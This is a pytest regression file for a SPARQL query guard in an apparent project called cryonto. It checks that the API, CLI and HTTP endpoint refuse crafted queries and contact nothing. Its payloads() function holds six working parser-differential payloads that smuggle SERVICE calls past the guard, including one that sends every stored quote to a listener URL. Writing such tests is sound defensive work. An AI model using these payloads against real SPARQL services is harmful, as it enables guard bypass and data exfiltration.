"""SERVICE smuggled past the guard (issue 7, item 1): every way in, a real listener.

rdflib (the guard) expands \\u escapes in the whole text and ends a comment only
at LF; Oxigraph (the engine) expands escapes only in strings and IRIs and also
ends a comment at CR. Each payload below is read as harmless by the first and as
a SERVICE call by the second. The control test proves each one does reach the
listener when handed to pyoxigraph as written; every other test asserts that
through the API, the CLI and the endpoint it is refused and nothing is contacted.
"""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pyoxigraph as ox
import pytest
from click.testing import CliRunner
from support.serve import ThreadServer
from support.servers import free_port

from cryonto.cli import main
from cryonto.errors import QueryRefused
from cryonto.rdf import GraphStore
from cryonto.rdf.guard import check, check_query

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "paper-quotes.ttl"
CRYONTO = str(Path(sys.executable).parent / "cryonto")


def payloads(url: str) -> dict[str, str]:
    """The attacks of issue 7, aimed at `url`."""
    return {
        # rdflib: a long string from the first \u000A""" to the second; Oxigraph: comments
        "comment-long-string": (
            'SELECT * WHERE {\n  BIND( # \\u000A"""\n  1 AS ?x) SERVICE <' + url + '/a> '
            '{ ?s ?p ?o } BIND( # \\u000A""" AS ?x0) BIND(\n  2 AS ?y)\n}'),
        # the same wrapping, sending every segment's text to the listener
        "lateral-exfiltration": (
            'PREFIX oa: <http://www.w3.org/ns/oa#>\nSELECT * WHERE {\n  BIND( # \\u000A"""\n'
            '  1 AS ?x) ?sel oa:exact ?quote BIND(IRI(CONCAT("' + url + '/leak/", '
            'ENCODE_FOR_URI(?quote))) AS ?svc) LATERAL { SERVICE SILENT ?svc { ?s ?p ?o } } '
            'BIND( # \\u000A""" AS ?x0) BIND(\n  2 AS ?y)\n}'),
        # rdflib: "a" + STRLEN('''…'''); Oxigraph: one string, then SERVICE, then a comment
        "quote-escape": (
            "SELECT * WHERE { BIND(\"a\\u0022 + STRLEN('''\" AS ?x1) SERVICE <" + url + "/c> "
            "{ ?s ?p ?o } # ''') AS ?x3)\n}"),
        # no escape at all: a lone CR ends a comment for Oxigraph only
        "carriage-return": ("SELECT * WHERE { BIND(1 AS ?x) # \r SERVICE <" + url + "/d> "
                            "{ ?s ?p ?o } \n}"),
        "escaped-carriage-return": ("SELECT * WHERE { BIND(1 AS ?x) # \\u000D SERVICE <" + url
                                    + "/e> { ?s ?p ?o } \n}"),
        # an escape that a second expansion would turn into SERVICE
        "double-escape": "SELECT * WHERE { \\u005Cu0053ERVICE <" + url + "/f> { ?s ?p ?o } }",
    }


NAMES = list(payloads("http://127.0.0.1:9"))
#: the last two reach nothing in Oxigraph as written; they would in a parser that follows
#: SPARQL 1.1 §19.2 (or expands twice), so the guard refuses them as well
REACHING = NAMES[:4]


def _raw_run(store: GraphStore, sparql: str) -> None:
    """The control: the engine itself, past cryonto's guard and isolation."""
    raw = ox.Store()
    raw.extend(store.quads())
    with contextlib.suppress(Exception):  # the listener answers 500; SILENT swallows it
        result = raw.query(sparql, use_default_graph_as_union=True)
        if not isinstance(result, bool):
            list(result)


@pytest.mark.parametrize("name", REACHING)
def test_control_each_payload_reaches_the_listener_without_the_guard(listener, name):
    """The payloads are real: pyoxigraph, given the text as written, calls the listener."""
    store = GraphStore.with_ontology([EXAMPLE])
    _raw_run(store, payloads(listener.url)[name])
    assert listener.settle() >= 1
    if name == "lateral-exfiltration":  # one request per segment, carrying its text
        segments = len(store.select("PREFIX oa: <http://www.w3.org/ns/oa#> "
                                    "SELECT ?q WHERE { ?s oa:exact ?q }"))
        leaks = [hit for hit in listener.hits if "/leak/" in hit]
        assert len(leaks) == segments > 10


@pytest.mark.parametrize("name", NAMES)
def test_guard_refuses_each_payload_or_passes_a_text_that_contacts_nothing(listener, name):
    """The guard alone (no isolation): what it lets through, run as is, reaches nothing."""
    try:
        checked = check(payloads(listener.url)[name])
    except QueryRefused as refused:
        assert "\n" not in str(refused)
    else:
        assert "SERVICE" in checked.text  # inside a string or comment now, for both parsers
        _raw_run(GraphStore.with_ontology([EXAMPLE]), checked.text)
    assert listener.settle() == 0


def test_escapes_are_expanded_once_and_the_expanded_text_is_what_runs():
    checked = check('SELECT ?x WHERE { BIND("caf\\u00E9 \\U0001F600" AS ?x) }')
    assert checked.text == 'SELECT ?x WHERE { BIND("café 😀" AS ?x) }'
    from cryonto.queries import run_on_store

    result = run_on_store(GraphStore(), checked.text, checked.form)
    assert result.values() == [("café 😀",)]
    # a caller that runs its own text may not have escapes in it
    with pytest.raises(QueryRefused, match="escapes"):
        check_query('SELECT ?x WHERE { BIND("caf\\u00E9" AS ?x) }')
    assert check_query("SELECT * WHERE { ?s ?p ?o }\r\n") == "SELECT"  # CRLF is fine


@pytest.mark.parametrize("escape", ["\\uD800", "\\U00110000"])
def test_escapes_naming_no_character_are_refused(escape):
    with pytest.raises(QueryRefused, match="not a character"):
        check(f'SELECT * WHERE {{ BIND("{escape}" AS ?x) }}')


def test_api_refuses_and_contacts_nothing(listener, tmp_path):
    from cryonto.queries import run_query

    for name, sparql in payloads(listener.url).items():
        path = tmp_path / f"{name}.rq"
        path.write_text(sparql, encoding="utf-8", newline="")
        with contextlib.suppress(QueryRefused):
            run_query(path, data=[EXAMPLE])
    assert listener.settle() == 0


def test_cli_runner_refuses_with_one_line_and_contacts_nothing(listener, tmp_path):
    for name, sparql in payloads(listener.url).items():
        path = tmp_path / f"{name}.rq"
        path.write_text(sparql, encoding="utf-8", newline="")
        done = CliRunner().invoke(main, ["query", str(path), "--data", str(EXAMPLE)])
        assert done.exit_code in (0, 2), (name, done.output)
        assert "Traceback" not in done.output
        if done.exit_code == 2:
            assert "refused" in done.output and len(done.output.strip().splitlines()) == 1
    assert listener.settle() == 0


@pytest.mark.slow
def test_cli_subprocess_refuses_and_contacts_nothing(listener, tmp_path):
    for name, sparql in payloads(listener.url).items():
        path = tmp_path / f"{name}.rq"
        path.write_text(sparql, encoding="utf-8", newline="")
        done = subprocess.run([CRYONTO, "query", str(path), "--data", str(EXAMPLE)],
                              capture_output=True, text=True, timeout=120)
        assert done.returncode in (0, 2), (name, done.stderr)
        if done.returncode == 2:
            assert done.stdout == ""
            assert len(done.stderr.strip().splitlines()) == 1 and "refused" in done.stderr
    assert listener.settle() == 0


@contextlib.contextmanager
def uvicorn_server(store: GraphStore, **options) -> Iterator[str]:
    """`create_app(store)` under a real uvicorn on 127.0.0.1, in a thread; yields its URL."""
    with ThreadServer(store, **options) as server:
        yield server.url


def _ask_endpoint(url: str, listener) -> None:
    with httpx.Client(base_url=url, timeout=60) as client:
        for name, sparql in payloads(listener.url).items():
            for response in (
                client.get("/sparql", params={"query": sparql}),
                client.post("/sparql", data={"query": sparql}),
                client.post("/sparql", content=sparql.encode(),
                            headers={"Content-Type": "application/sparql-query"}),
            ):
                assert response.status_code in (200, 400), (name, response.text)
                if response.status_code == 400:
                    assert "refused" in response.text
                    assert len(response.text.strip().splitlines()) == 1


@pytest.mark.integration
def test_endpoint_refuses_and_contacts_nothing(listener):
    with uvicorn_server(GraphStore.with_ontology([EXAMPLE])) as url:
        _ask_endpoint(url, listener)
    assert listener.settle() == 0


@pytest.mark.integration
def test_cryonto_serve_subprocess_refuses_and_contacts_nothing(listener):
    port = free_port()
    proc = subprocess.Popen([CRYONTO, "serve", "--port", str(port), "--data", str(EXAMPLE),
                             "--log-level", "warning"], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            assert proc.poll() is None, proc.stderr.read() if proc.stderr else ""
            with contextlib.suppress(httpx.HTTPError):
                if httpx.get(f"{url}/sparql", timeout=2).status_code == 200:
                    break
            assert time.monotonic() < deadline, "cryonto serve did not start"
            time.sleep(0.1)
        _ask_endpoint(url, listener)
    finally:
        proc.send_signal(signal.SIGINT)
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            os.kill(proc.pid, signal.SIGKILL)
            proc.wait()
    assert listener.settle() == 0
